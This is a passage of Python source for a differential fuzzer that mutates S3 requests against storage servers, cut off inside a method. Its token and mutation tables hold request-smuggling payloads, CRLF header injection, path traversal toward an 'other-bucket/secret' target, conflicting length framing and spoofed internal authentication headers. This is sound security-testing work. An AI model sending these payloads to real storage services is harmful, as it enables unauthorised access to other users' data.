"""
Requests with misleading names: a plain request of every kind, changed in places that two readers may read differently.

A case is a plain request and a few changes, each with its own seed, so that a finding can be shrunk by leaving changes
out.
"""

from __future__ import annotations

import base64
import hashlib
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

OWN, VICTIM = b"test-bucket", b"other-bucket"
"""
The bucket of the requests, and the bucket that an attacker wants to reach.
"""

DOMAIN = b"s3.example.test"

CARRIERS = (
    "v4-header",
    "v4-query",
    "v4a-header",
    "v4a-query",
    "v2-header",
    "v2-query",
    "v4-form",
    "v2-form",
    "anonymous",
    "preflight",
)
_WEIGHTS = (6, 4, 1, 1, 4, 3, 3, 2, 2, 1)
PAYLOADS = ("hash", "unsigned", "signed chunks", "signed trailer", "unsigned trailer")

SMUGGLED = b"GET /%b/secret HTTP/1.1\r\nHost: %b\r\n\r\n" % (VICTIM, DOMAIN)

TOKENS: tuple[bytes, ...] = (
    b"\r",
    b"\n",
    b"\r\n",
    b"\r\n\r\n",
    b"\r\n\r\n" + SMUGGLED,
    b": 1\r\n\r\n" + SMUGGLED,
    b"\r\n ",
    b"\r\nx-amz-acl: public-read\r\n",
    b"\nTransfer-Encoding: chunked\n",
    b"\rContent-Length: 0\r",
    b"\x00",
    b"\t",
    b"\x0b",
    b"\x0c",
    b"\x1c",
    b"\x7f",
    b"\x80",
    b"\x85",
    b"\xa0",
    b"\xff",
    b"\xc3\xa9",
    b"\xe2\x80\xa8",
    b"\xc0\xaf",
    b"\xc0\x8a",
    b"\xe0\x80\xaf",
    b":",
    b" :",
    b": ",
    b" ",
    b"_",
    b"-",
    b"'",
    b'"',
    b'\\"',
    b"\\",
    b"\\\r\n",
    b"=?utf-8?q?a?=",
    b"*",
    b"*=utf-8''a",
    b"%",
    b"%2",
    b"%00",
    b"%0d%0a",
    b"%u000a",
    b"/",
    b"//",
    b"/./",
    b"/../",
    b"/../%b/secret" % VICTIM,
    b";",
    b"?",
    b"#",
    b"+",
    b"&",
    b"=",
    b",",
    b"[]",
    b"$",
    b"{}",
    b"<",
)
"""
Places where one reader ends a name, a line, a path or a request and another does not.
"""

HEADERS: tuple[bytes, ...] = (
    b"x-amz-acl",
    b"x-amz-copy-source",
    b"x-amz-copy-source-range",
    b"x-amz-copy-source-if-match",
    b"x-amz-metadata-directive",
    b"x-amz-meta-a",
    b"x-amz-meta-a_b",
    b"x-amz-meta-",
    b"x-amz-date",
    b"x-amz-content-sha256",
    b"x-amz-decoded-content-length",
    b"x-amz-security-token",
    b"x-amz-tagging",
    b"x-amz-trailer",
    b"x-amz-grant-read",
    b"x-amz-storage-class",
    b"x-amz-mfa",
    b"x-amz-bypass-governance-retention",
    b"x-amz-object-lock-mode",
    b"x-amz-server-side-encryption",
    b"x-amz-website-redirect-location",
    b"x-amz-expected-bucket-owner",
    b"x-amz-checksum-crc32",
    b"x-amz-sdk-checksum-algorithm",
    b"content-type",
    b"content-length",
    b"content-md5",
    b"content-encoding",
    b"content-disposition",
    b"transfer-encoding",
    b"host",
    b"expect",
    b"connection",
    b"te",
    b"trailer",
    b"upgrade",
    b"keep-alive",
    b"authorization",
    b"date",
    b"range",
    b"if-match",
    b"if-none-match",
    b"cookie",
    b"x-forwarded-for",
    b"x-forwarded-host",
    b"x-http-method-override",
    b"x-rewrite-url",
)

PRIVATE: tuple[bytes, ...] = (
    b"rgwx-uid",
    b"rgwx-zonegroup",
    b"rgwx-copy-if-newer",
    b"x-rgw-object-type",
    b"http_x_rgw_auth",
    b"x-object-manifest",
    b"x-object-meta-a",
    b"x-object-sysmeta-a",
    b"x-container-read",
    b"x-container-write",
    b"x-account-meta-temp-url-key",
    b"x-auth-token",
    b"x-storage-token",
    b"x-service-token",
    b"x-backend-storage-policy-index",
    b"x-copy-from",
    b"x-symlink-target",
    b"x-delete-at",
    b"x-versions-location",
    b"x-timestamp",
    b"x-minio-extract",
    b"x-minio-force-delete",
    b"x-minio-source-mtime",
    b"x-rcs-rewrite-path",
    b"euca-user-id",
    b"eucaoperation",
    b"eucainfo",
    b"eucaeffectiveuserid",
)

AUTHENTICATION: tuple[bytes, ...] = (
    b"X-Amz-Algorithm",
    b"X-Amz-Credential",
    b"X-Amz-Date",
    b"X-Amz-Expires",
    b"X-Amz-SignedHeaders",
    b"X-Amz-Signature",
    b"X-Amz-Security-Token",
    b"X-Amz-Region-Set",
    b"AWSAccessKeyId",
    b"Expires",
    b"Signature",
    b"policy",
)

PARAMETERS: tuple[bytes, ...] = (
    b"acl",
    b"policy",
    b"tagging",
    b"cors",
    b"lifecycle",
    b"delete",
    b"uploads",
    b"uploadId",
    b"partNumber",
    b"versionId",
    b"versions",
    b"versioning",
    b"website",
    b"logging",
    b"location",
    b"notification",
    b"torrent",
    b"restore",
    b"retention",
    b"object-lock",
    b"renameObject",
    b"ownershipControls",
    b"session",
    b"list-type",
    b"prefix",
    b"delimiter",
    b"marker",
    b"max-keys",
    b"encoding-type",
    b"response-content-type",
    b"response-expires",
    b"x-id",
    b"usage",
    b"mdsearch",
    b"append",
    b"position",
    b"format",
    b"multipart-manifest",
    b"symlink",
    b"temp_url_sig",
    b"temp_url_expires",
    b"bulk-delete",
    b"extract-archive",
    b"metadata",
    b"versionid",
    b"ACL",
)

FIELDS: tuple[bytes, ...] = (
    b"key",
    b"acl",
    b"bucket",
    b"tagging",
    b"file",
    b"policy",
    b"success_action_redirect",
    b"success_action_status",
    b"redirect",
    b"submit",
    b"x-ignore-a",
    b"Content-Type",
    b"Content-Encoding",
    b"Cache-Control",
    b"Expires",
    b"content-length",
    b"x-amz-storage-class",
    *HEADERS[:24],
    # The client chooses what follows a prefix.
    *(b"x-amz-meta-a", b"x-amz-meta-b", b"x-amz-grant-read", b"x-amz-object-lock-mode", b"x-amz-checksum-sha256") * 3,
)

VALUES: dict[bytes, tuple[bytes, ...]] = {
    b"x-amz-copy-source": (
        b"/test-bucket/k",
        b"test-bucket/k",
        b"/test-bucket/../other-bucket/secret",
        b"/test-bucket%2Fk",
        b"test-bucket/k?versionId=1",
        b"/test-bucket",
        b"//test-bucket/k",
    ),
    b"content-length": (
        b"0",
        b"5",
        b"00",
        b"+5",
        b"5, 5",
        b"0x5",
        b" 5",
        b"5\t",
        b"-1",
        b"5_0",
        b"18446744073709551616",
    ),
    b"transfer-encoding": (
        b"chunked",
        b"Chunked",
        b"identity",
        b"chunked, identity",
        b"identity, chunked",
        b"xchunked",
        b"chunked;a=b",
        b"\x0bchunked",
        b'"chunked"',
        b"chunked\x00",
        b"gzip",
        b"",
    ),
    b"expect": (b"100-continue", b"100-Continue", b"100-continue, 100-continue", b"200-ok", b" 100-continue "),
    b"connection": (
        b"close",
        b"keep-alive",
        b"x-amz-acl",
        b"close, x-amz-date",
        b"keep-alive,host",
        b"upgrade",
        b"content-length",
        b"x-amz-copy-source",
    ),
    b"host": (
        DOMAIN,
        b"test-bucket." + DOMAIN,
        b"S3.EXAMPLE.TEST",
        DOMAIN + b":80",
        DOMAIN + b".",
        DOMAIN + b":",
        b"a@" + DOMAIN,
        b"other.test",
        b"test-bucket/" + DOMAIN,
        b"%2e%2e." + DOMAIN,
        b"..." + DOMAIN,
        b"test_bucket." + DOMAIN,
        b"[::1]",
        b"",
    ),
    b"content-type": (
        b"text/plain",
        b"multipart/form-data; boundary=x",
        b"text/plain, multipart/form-data",
        b"multipart/form-data ; boundary=x",
        b"application/x-www-form-urlencoded",
        b"",
    ),
    b"content-encoding": (b"gzip", b"aws-chunked", b"aws-chunked,gzip", b"AWS-Chunked", b""),
    b"range": (b"bytes=0-1", b"bytes=-1", b"bytes=0-1,2-3", b"x"),
    b"uploadid": (b"a", b"", b"a/b", b"../x"),
    b"partnumber": (b"1", b"0", b"-1", b"x", b"10001"),
    b"list-type": (b"2", b"1", b"", b"02"),
    b"max-keys": (b"1", b"-1", b"x", b"99999999999999999999"),
    b"x-amz-date": (b"20260301T120000Z", b"x", b""),
    b"x-amz-decoded-content-length": (b"0", b"5", b"6", b"-1", b"99999999999999999999"),
    b"x-amz-content-sha256": (
        b"UNSIGNED-PAYLOAD",
        b"STREAMING-UNSIGNED-PAYLOAD-TRAILER",
        b"STREAMING-AWS4-HMAC-SHA256-PAYLOAD",
        b"unsigned-payload",
        b"0" * 64,
    ),
    b"authorization": (b"AWS a:b", b"AWS4-HMAC-SHA256 a", b"Basic YTpi", b"Bearer a", b""),
    b"expires": (b"1772366460", b"0", b"Thu, 01 Jan 2026 00:00:00 GMT"),
    b"x-amz-trailer": (b"x-amz-checksum-crc32", b"x-amz-meta-a", b"content-length", b"x-amz-checksum-crc32,x-amz-acl"),
    b"x-amz-acl": (b"private", b"public-read", b"public-read-write"),
    b"x-http-method-override": (b"DELETE", b"PUT"),
    b"success_action_redirect": (b"http://a.test/", b"x", b"http://a.test/\r\nA: b"),
    b"tagging": (
        b"<Tagging><TagSet><Tag><Key>a</Key><Value>b</Value></Tag></TagSet></Tagging>",
        b"a=b",
        b"<!DOCTYPE a>",
    ),
}
_ANY_VALUES = (b"", b"1", b"a", b"a b", b"\xc3\xa9", b"x" * 300, b"/test-bucket/k", b"true")

_UNRESERVED = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.~")

COMPLETE = b"<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>a</ETag></Part></CompleteMultipartUpload>"
DELETE = b"<Delete><Object><Key>k</Key></Object><Object><Key>a/b</Key></Object></Delete>"
ACL = b"<AccessControlPolicy><Owner><ID>a</ID></Owner><AccessControlList/></AccessControlPolicy>"
VERSIONING = b"<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>"
TAGGING = VALUES[b"tagging"][0]


@dataclass
class Field:
    """
    A field of a form.

    Attributes:
        disposition: Text of the Content-Disposition; ``%b`` stands for the field's name.
        lines: Further header lines of its part, each with its CRLF.
    """

    name: bytes
    value: bytes
    disposition: bytes = b'Content-Disposition: form-data; name="%b"'
    lines: bytes = b""


@dataclass
class Draft:
    """
    A request before it is signed, in the bytes in which it will be sent.

    Attributes:
        items: Items of the query, raw, each with its ``=`` if it has one.
        headers: Headers other than those of the framing and of the carrier.
        unsigned: Lower-case names that the signature leaves out.
        target: Replaces the path and the query; empty to use those.
        authority: Authority of an absolute target; empty for the origin form.
        length: The declared length; None for the true one, empty for no Content-Length.
        chunk_name: Name of the extension with a chunk's signature.
        chunk_extra: Bytes after that extension.
        trailers: Trailers after an aws-chunked body.
        http_chunks: Whether the body is in chunked transfer coding.
        http_extension: Extension after each size of that coding.
        http_trailer: Trailer after its last chunk, with its CRLF.
        after: What follows the request.
    """

    carrier: str
    method: bytes
    path: bytes
    items: list[bytes] = field(default_factory=list)
    headers: list[tuple[bytes, bytes]] = field(default_factory=list)
    body: bytes = b""
    payload: str = "hash"
    host: bytes = DOMAIN
    version: bytes = b"HTTP/1.1"
    unsigned: set[bytes] = field(default_factory=set)
    authority: bytes = b""
    length: bytes | None = None
    chunk_name: bytes = b"chunk-signature"
    chunk_extra: bytes = b""
    trailers: list[tuple[bytes, bytes]] = field(default_factory=list)
    announces: bytes | None = None
    http_chunks: bool = False
    http_extension: bytes = b""
    http_trailer: bytes = b""
    fields: list[Field] = field(default_factory=list)
    boundary: bytes = b"fuzz-boundary"
    content_type: bytes = b'multipart/form-data; boundary="%b"'
    file_lines: bytes = b""
    filename: bytes = b"f.txt"
    after: bytes = b""

    @property
    def is_form(self) -> bool:
        return self.carrier.endswith("-form")


def escaped(text: bytes, times: int) -> bytes:
    """
    Escape every byte except the unreserved ones, this many times.
    """
    for _ in range(times):
        text = b"".join(bytes((byte,)) if byte in _UNRESERVED else b"%%%02X" % byte for byte in text)
    return text


def value_for(rng: random.Random, name: bytes) -> bytes:
    """
    Choose a value that a name may have.
    """
    return rng.choice(VALUES.get(name.lower().replace(b"_", b"-"), _ANY_VALUES))


def odd_name(rng: random.Random, names: Sequence[bytes], levels: Sequence[int]) -> bytes:
    """
    Choose a name, and change it so that two readers may read it differently.

    Args:
        levels: How often the inserted text may be escaped.
    """
    name = rng.choice(names)
    kind = rng.randrange(12)
    if kind == 0:
        return name
    if kind == 1:
        place = rng.randrange(len(name))
        return name[:place] + bytes((name[place] ^ (1 << rng.randrange(8)),)) + name[place + 1 :]
    if kind == 2:
        return rng.choice((name.upper(), name.lower(), name.title(), name.swapcase()))
    if kind == 3:
        return name.replace(b"-", b"_", rng.choice((1, 1, 9)))
    if kind == 4:
        return rng.choice((b"HTTP_", b"http-", b"")) + name.upper().replace(b"-", b"_")
    if kind == 5:
        # All of it, so that a reader that compares raw names takes it for another.
        times = max(1, rng.choice(levels))
        return escaped(b"".join(b"%%%02X" % byte for byte in name), times - 1)
    if kind == 6:
        return rng.choice(
            (b"", b" ", b"=?utf-8?q?%b?=" % name, b"%b*" % name, b'"%b"' % name, b" %b" % name, b"%b " % name)
        )
    if kind == 7:
        other = rng.choice(names)
        return (
            name
            + escaped(rng.choice((b";", b",", b"&", b": 1\r\n", b"=1&", b"\r\n", b"\n", b"\r")), rng.choice(levels))
            + other
        )
    token = escaped(rng.choice(TOKENS), rng.choice(levels))
    place = rng.choice((0, len(name), len(name), rng.randrange(len(name) + 1)))
    return name[:place] + token + name[place:]


# Plain requests


def _md5(document: bytes) -> bytes:
    return b"content-md5: " + base64.b64encode(hashlib.md5(document).digest())


_PLAIN: tuple[tuple[bytes, bytes, bytes, bytes, bytes], ...] = (
    # method, key, query, a header, body
    (b"GET", b"/k", b"", b"", b""),
    (b"GET", b"/k", b"", b"range: bytes=0-1", b""),
    (b"GET", b"/k", b"versionId=1", b"", b""),
    (b"GET", b"/k", b"response-content-type=text%2Fplain", b"", b""),
    (b"HEAD", b"/k", b"", b"", b""),
    (b"HEAD", b"", b"", b"", b""),
    (b"PUT", b"/k", b"", b"", b"hello"),
    (b"PUT", b"/a%20b/%C3%A9", b"", b"content-type: text/plain", b"hello"),
    (b"PUT", b"/k", b"", b"x-amz-meta-a: 1", b"hello"),
    (b"PUT", b"/k", b"", b"", b""),
    (b"PUT", b"/copy", b"", b"x-amz-copy-source: /test-bucket/k", b""),
    (b"PUT", b"/k", b"partNumber=1&uploadId=a", b"", b"hello"),
    (b"PUT", b"/k", b"acl", b"x-amz-acl: private", b""),
    (b"PUT", b"/k", b"acl", b"", ACL),
    (b"PUT", b"/k", b"tagging", b"", TAGGING),
    (b"POST", b"/k", b"uploads", b"", b""),
    (b"POST", b"/k", b"uploadId=a", b"", COMPLETE),
    (b"DELETE", b"/k", b"", b"", b""),
    (b"DELETE", b"/k", b"uploadId=a", b"", b""),
    (b"GET", b"", b"", b"", b""),
    (b"GET", b"", b"list-type=2&prefix=a", b"", b""),
    (b"GET", b"/", b"prefix=a&delimiter=%2F", b"", b""),
    (b"GET", b"", b"versions", b"", b""),
    (b"GET", b"", b"acl", b"", b""),
    (b"GET", b"", b"location", b"", b""),
    (b"GET", b"/k", b"acl", b"", b""),
    (b"GET", b"/k", b"uploadId=a", b"", b""),
    (b"PUT", b"", b"", b"", b""),
    (b"PUT", b"", b"versioning", _md5(VERSIONING), VERSIONING),
    (b"DELETE", b"", b"", b"", b""),
    (b"POST", b"", b"delete", _md5(DELETE), DELETE),
)


def plain_request(rng: random.Random) -> Draft:
    """
    Choose a request that S3 supports, and how it is authenticated.
    """
    carrier = rng.choices(CARRIERS, _WEIGHTS)[0]
    if carrier.endswith("-form"):
        draft = Draft(carrier, b"POST", b"/" + OWN, body=b"hello")
        draft.fields = [Field(b"key", rng.choice((b"k", b"a/b", b"${filename}")))]
        if rng.random() < 0.3:
            draft.fields.append(Field(b"acl", b"private"))
        if rng.random() < 0.3:
            draft.fields.append(Field(b"success_action_status", b"201"))
        return draft
    if carrier == "preflight":
        draft = Draft(carrier, b"OPTIONS", b"/" + OWN + rng.choice((b"", b"/k")))
        draft.headers = [
            (b"origin", b"http://a.test"),
            (b"access-control-request-method", rng.choice((b"PUT", b"GET"))),
        ]
        return draft
    if rng.random() < 0.03:
        return Draft(carrier, b"GET", b"/")
    method, key, query, header, body = rng.choice(_PLAIN)
    draft = Draft(carrier, method, b"/" + OWN + key, query.split(b"&") if query else [], body=body)
    if rng.random() < 0.2:
        draft.host, draft.path = b"%b.%b" % (OWN, DOMAIN), key or b"/"
    if header:
        name, _, value = header.partition(b": ")
        draft.headers.append((name, value))
    if carrier.endswith("-query"):
        draft.payload = "unsigned"
    if method == b"PUT" and body == b"hello" and carrier in {"v4-header", "v4a-header"}:
        draft.payload = rng.choice(PAYLOADS)
        if draft.payload.endswith("trailer"):
            draft.trailers = [(b"x-amz-checksum-crc32", b"NhCmhg==")]
        draft.http_chunks = rng.random() < 0.3 and draft.payload not in {"hash", "unsigned"}
    return draft


# Changes


def _add_header(rng: random.Random, draft: Draft) -> None:
    name = odd_name(rng, HEADERS, (0, 0, 0, 1, 2, 3))
    _insert_header(rng, draft, name, value_for(rng, name))


def _add_private_header(rng: random.Random, draft: Draft) -> None:
    name = odd_name(rng, PRIVATE, (0, 0, 1, 2))
    _insert_header(rng, draft, name, value_for(rng, name))


def _add_authentication_header(rng: random.Random, draft: Draft) -> None:
    name = odd_name(rng, AUTHENTICATION, (0, 0, 1))
    _insert_header(rng, draft, name, value_for(rng, name))


def _odd_header_value(rng: random.Random, draft: Draft) -> None:
    name = rng.choice(HEADERS)
    value = value_for(rng, name)
    place = rng.randrange(len(value) + 1)
    token = escaped(rng.choice(TOKENS), rng.choice((0, 0, 1, 2)))
    _insert_header(rng, draft, name, value[:place] + token + value[place:])


def _insert_header(rng: random.Random, draft: Draft, name: bytes, value: bytes) -> None:
    draft.headers.insert(rng.randrange(len(draft.headers) + 1), (name, value))
    if rng.random() < 0.15:
        draft.unsigned.add(name.lower())


def _repeat_header(rng: random.Random, draft: Draft) -> None:
    if not draft.headers or rng.random() < 0.5:
        name = rng.choice(HEADERS)
        draft.headers.append((name, value_for(rng, name)))
    name, value = rng.choice(draft.headers)
    again = rng.choice((name, name, name.upper(), name.replace(b"-", b"_"), name + b" "))
    _insert_header(rng, draft, again, rng.choice((value, value_for(rng, name))))


def _framing(rng: random.Random, draft: Draft) -> None:
    kind = rng.randrange(7)
    if kind == 0:
        draft.length = rng.choice(VALUES[b"content-length"])
    elif kind == 1:
        draft.http_chunks = True
        draft.length = rng.choice((None, b"0", b"5"))
        if draft.length is not None:
            draft.headers.append((b"content-length", draft.length))
    elif kind == 2:
        name = odd_name(rng, (b"transfer-encoding", b"content-length"), (0, 0, 1))
        draft.headers.append((name, value_for(rng, name)))
        draft.unsigned.add(name.lower())
    elif kind == 3:
        draft.headers.append((b"transfer-encoding", rng.choice(VALUES[b"transfer-encoding"])))
        draft.unsigned.add(b"transfer-encoding")
    elif kind == 4:
        name = rng.choice((b"expect", b"connection", b"te", b"trailer", b"upgrade", b"keep-alive", b"proxy-connection"))
        draft.headers.append((name, value_for(rng, name)))
        draft.unsigned.add(name)
    elif kind == 5:
        draft.version = rng.choice(
            (b"HTTP/1.0", b"HTTP/1.1 ", b"HTTP/0.9", b"HTTP/2.0", b"http/1.1", b"HTTP/1.1\t", b"")
        )
    else:
        draft.body, draft.length = rng.choice((b"", b"hello", SMUGGLED)), rng.choice((None, b"", b"0"))


def _add_parameter(rng: random.Random, draft: Draft) -> None:
    _insert_parameter(rng, draft, odd_name(rng, PARAMETERS, (0, 1, 1, 1, 2, 3)))


def _add_header_parameter(rng: random.Random, draft: Draft) -> None:
    _insert_parameter(rng, draft, odd_name(rng, HEADERS, (1, 1, 1, 2, 3)))


def _add_private_parameter(rng: random.Random, draft: Draft) -> None:
    _insert_parameter(rng, draft, odd_name(rng, PRIVATE, (1, 1, 2)))


def _add_authentication_parameter(rng: random.Random, draft: Draft) -> None:
    _insert_parameter(rng, draft, odd_name(rng, AUTHENTICATION, (1, 1, 2)))


def _insert_parameter(rng: random.Random, draft: Draft, name: bytes) -> None:
    value = escaped(value_for(rng, name), rng.choice((0, 1, 1, 1, 2)))
    if rng.random() < 0.15:
        value += escaped(rng.choice(TOKENS), rng.choice((1, 1, 2)))
    item = name if rng.random() < 0.2 else b"%b=%b" % (name, value)
    # Bytes that are invalid in a target are usually escaped: otherwise every request would end in the same error.
    if rng.random() < 0.9:
        item = b"".join(bytes((byte,)) if 0x20 < byte != 0x7F and byte != 0x23 else b"%%%02X" % byte for byte in item)
    draft.items.insert(rng.randrange(len(draft.items) + 1), item)


def _repeat_parameter(rng: random.Random, draft: Draft) -> None:
    if not draft.items:
        draft.items.append(rng.choice(PARAMETERS))
    item = rng.choice(draft.items)
    name, _, value = item.partition(b"=")
    again = rng.choice((name, name.upper(), name.lower(), escaped(b"%%%02X" % name[0], 0) + name[1:] if name else name))
    draft.items.insert(
        rng.randrange(len(draft.items) + 1), rng.choice((again, b"%b=%b" % (again, value), again + b"=x"))
    )


def _query_separators(rng: random.Random, draft: Draft) -> None:
    draft.items.insert(
        rng.randrange(len(draft.items) + 1),
        rng.choice(
            (
                b"",
                b"=",
                b"=a",
                b"&&",
                b"acl;tagging",
                b"a;acl",
                b"?acl",
                b"acl?",
                b"%26acl",
                b"a=b=c",
                b"%3Facl",
                b"+acl",
                b"acl+",
                b"acl%20",
            )
        ),
    )


_METHODS = (
    *(b"GET", b"HEAD", b"PUT", b"POST", b"DELETE", b"OPTIONS", b"PATCH", b"TRACE", b"CONNECT", b"COPY", b"PROPFIND"),
    *(b"get", b"Get", b"GET\t", b"GET\x00", b"GE\xc3\x89", b"", b"_GET", b"PUT%20", b"G\rET", b"PRI"),
)


def _method(rng: random.Random, draft: Draft) -> None:
    draft.method = rng.choice(_METHODS)


def _host(rng: random.Random, draft: Draft) -> None:
    draft.host = rng.choice(VALUES[b"host"])
    if rng.random() < 0.4:
        place = rng.randrange(len(draft.host) + 1)
        draft.host = draft.host[:place] + escaped(rng.choice(TOKENS), rng.choice((0, 0, 1))) + draft.host[place:]
    if rng.random() < 0.3:
        draft.authority = rng.choice((draft.host, DOMAIN, b"a@" + DOMAIN, b"other.test", DOMAIN + b":80"))


def _path(rng: random.Random, draft: Draft) -> None:
    place = rng.choice((0, 1, len(draft.path), rng.randrange(len(draft.path) + 1)))
    token = escaped(rng.choice(TOKENS), rng.choice((0, 1, 1, 1, 2, 3)))
    draft.path = draft.path[:place] + token + draft.path[place:]


def _segment(rng: random.Random, draft: Draft) -> None:
    first = rng.choice(
        (b"admin", b"swift", b"auth", b"v1", b"info", b"healthcheck", b"minio", b"services", b"..", b".", b"")
    )
    spelled = rng.choice(
        (first, first.upper(), escaped(b"".join(b"%%%02X" % byte for byte in first), rng.choice((0, 1))))
    )
    after = rng.choice((b"/", b"/user", b"/AUTH_soak/%b/secret" % VICTIM, b"", b"%2F", b"/./x", b"//x"))
    draft.path = rng.choice((b"/", b"//", b"/./", b"/%2e/", b"/x/../", b"/%2F")) + spelled + after


def _dots(rng: random.Random, draft: Draft) -> None:
    dots = rng.choice(
        (b"..", b"%2e%2e", b"%252e%252e", b".%2e", b"..;", b"..%00", b".", b"%c0%ae%c0%ae", b"..%5c", b"..\\")
    )
    slash = rng.choice((b"/", b"/", b"%2f", b"%252f", b"\\", b"//"))
    draft.path += (
        slash + dots + slash + rng.choice((VICTIM + b"/secret", dots + slash + VICTIM + b"/secret", b"k", b""))
    )


def _copy_source(rng: random.Random, draft: Draft) -> None:
    source = rng.choice(VALUES[b"x-amz-copy-source"])
    place = rng.randrange(len(source) + 1)
    source = source[:place] + escaped(rng.choice(TOKENS), rng.choice((0, 1, 1, 2))) + source[place:]
    name = rng.choice((b"x-amz-copy-source", b"x-amz-copy-source", odd_name(rng, (b"x-amz-copy-source",), (0, 1))))
    if draft.is_form:
        draft.fields.append(Field(name, source))
    elif draft.carrier.endswith("-query") and rng.random() < 0.7:
        draft.items.append(escaped(name, 1) + b"=" + escaped(source, 1))
    else:
        draft.headers.append((name, source))


def _payload_names(rng: random.Random, draft: Draft) -> None:
    kind = rng.randrange(6)
    if kind == 0:
        draft.chunk_name = odd_name(rng, (b"chunk-signature",), (0, 0, 1))
    elif kind == 1:
        extra = odd_name(rng, (b"a", b"chunk-signature", b"x-amz-acl"), (0, 0, 1))
        draft.chunk_extra = b";%b=%b" % (extra, rng.choice((b"1", b"0" * 64, b'"a;b"', b"\n", b"")))
    elif kind == 2:
        names = (
            b"x-amz-checksum-crc32",
            b"x-amz-checksum-sha256",
            b"content-length",
            b"x-amz-acl",
            b"x-amz-meta-a",
            b"x-amz-trailer-signature",
        )
        name = odd_name(rng, names, (0, 0, 1))
        draft.trailers.insert(rng.randrange(len(draft.trailers) + 1), (name, value_for(rng, name)))
    elif kind == 3:
        draft.announces = odd_name(rng, (b"x-amz-checksum-crc32", b"x-amz-acl", b"content-length", b"host"), (0, 0, 1))
    elif kind == 4:
        draft.http_chunks = True
        draft.http_extension = (
            b";" + odd_name(rng, (b"a", b"ext"), (0, 0, 1)) + rng.choice((b"", b"=1", b'="a\r\nb"', b"=\n"))
        )
    else:
        draft.http_chunks = True
        name = odd_name(rng, HEADERS, (0, 0, 1))
        draft.http_trailer = b"%b: %b\r\n" % (name, value_for(rng, name))


def _add_field(rng: random.Random, draft: Draft) -> None:
    name = odd_name(rng, rng.choice((FIELDS, FIELDS, PRIVATE, AUTHENTICATION)), (0, 0, 0, 1, 2))
    draft.fields.insert(rng.randrange(len(draft.fields) + 1), Field(name, value_for(rng, name)))


def _disposition(rng: random.Random, draft: Draft) -> None:
    if not draft.fields:
        draft.fields.append(Field(b"key", b"k"))
    chosen = rng.choice(draft.fields)
    kind = rng.randrange(4)
    if kind == 0:
        chosen.disposition = rng.choice(
            (
                b"Content-Disposition: form-data; name=%b",
                b"Content-Disposition: form-data; name*=utf-8''%b",
                b'Content-Disposition: form-data; name="acl"; name="%b"',
                b'Content-Disposition: form-data; name="%b"; name=acl',
                b"Content-Disposition: form-data; name=\"%b\"; name*=utf-8''acl",
                b'Content-Disposition: form-data; name*0="%b"; name*1="x"',
                b'Content-Disposition: form-data; x="\\"; name="acl"; y="; name="%b"',
                b'content_disposition: form-data; name="%b"',
                b'Content-Disposition : form-data; name="%b"',
                b'Content-Disposition: form-data;\r\n name="%b"',
                b'Content-Disposition: form-data; filename="f"; name="%b"',
                b'Content-Disposition: attachment; name="%b"',
                b'Content-Disposition: form-data, name="%b"',
                b'Content-Disposition: form-data; NAME = "%b" ; ',
            )
        )
    elif kind == 1:
        chosen.lines = rng.choice(
            (
                b'Content-Disposition: form-data; name="acl"\r\n',
                b"Content-Transfer-Encoding: base64\r\n",
                b"Content-Type: text/plain; charset=utf-16\r\n",
                b"Content-Length: 0\r\n",
                b"%b: 1\r\n" % odd_name(rng, HEADERS, (0, 0, 1)),
            )
        )
    elif kind == 2:
        chosen.value += rng.choice(
            (b"\r\n--" + draft.boundary, b"\n--" + draft.boundary, b"\r", b"\n", b"\x00", b"\xff", b"\r\nA: b")
        )
    else:
        chosen.disposition = chosen.disposition.replace(
            b'"%b"', b'"%b' + escaped(rng.choice(TOKENS), rng.choice((0, 1))).replace(b"%", b"%%") + b'"'
        )


def _boundary(rng: random.Random, draft: Draft) -> None:
    kind = rng.randrange(4)
    token = rng.choice(TOKENS)
    if kind == 0:
        draft.boundary = rng.choice((b"", b"-", b"a b", b"a" * 70, b"a" * 71, b"a:b", b"--", b"fuzz" + token))
    elif kind == 1:
        draft.content_type = rng.choice(
            (
                b"multipart/form-data; boundary=%b",
                b"multipart/form-data; boundary=x; boundary=%b",
                b"multipart/form-data; boundary*=utf-8''%b",
                b"multipart/form-data; BOUNDARY = %b",
                b"multipart/form-data;boundary=%b, text/plain",
                b"Multipart/Form-Data; boundary=%b;",
                b"multipart/mixed; boundary=%b",
                b'multipart/form-data; x="; boundary=y"; boundary=%b',
                b"multipart/form-data; boundary_=x; boundary=%b",
            )
        )
    elif kind == 2:
        draft.file_lines = rng.choice(
            (b"Content-Type: text/plain\r\n", b"Content-Transfer-Encoding: base64\r\n", b"A\r\n", b"A: b\rC: d\r\n")
        )
    else:
        draft.filename = rng.choice(
            (b"", b"a/b", b"..\\..\\x", b'a\\"b', b"\xff", b"${filename}", b"a%0d%0ab", b"a" + token)
        )


def _more_requests(rng: random.Random, draft: Draft) -> None:
    draft.after = rng.choice(
        (SMUGGLED, b"\r\n" + SMUGGLED, b"\n" + SMUGGLED, b"0\r\n\r\n" + SMUGGLED, b"\r\n\r\n\r\n", b"x")
    )


_ANY: tuple[Callable[[random.Random, Draft], None], ...] = (
    _add_header,
    _add_header,
    _add_header,
    _add_private_header,
    _add_authentication_header,
    _odd_header_value,
    _repeat_header,
    _framing,
    _method,
    _host,
    _path,
    _segment,
    _dots,
    _more_requests,
)
_QUERY: tuple[Callable[[random.Random, Draft], None], ...] = (
    _add_parameter,
    _add_parameter,
    _add_header_parameter,
    _add_header_parameter,
    _add_private_parameter,
    _add_authentication_parameter,
    _repeat_parameter,
    _query_separators,
    _copy_source,
)
_FORM: tuple[Callable[[random.Random, Draft], None], ...] = (
    _add_field,
    _add_field,
    _add_field,
    _disposition,
    _boundary,
    _copy_source,
)
_CHUNKS: tuple[Callable[[random.Random, Draft], None], ...] = (_payload_names,)


@dataclass(frozen=True)
class Case:
    """
    A plain request and its changes, as seeds.
    """

    plain: str
    changes: tuple[str, ...]

    def draft(self) -> Draft:
        """
        Make the request.
        """
        draft = plain_request(random.Random(self.plain))
        for seed in self.changes:
            rng = random.Random(seed)
            kinds = _FORM * 3 if draft.is_form else _QUERY
            if draft.trailers or draft.payload.endswith("chunks"):
                kinds += _CHUNKS * 6
            rng.choice(_ANY + kinds)(rng, draft)
        return draft

    def fewer(self) -> list[Case]:
        """
        Return the cases with one change less.
        """
        return [
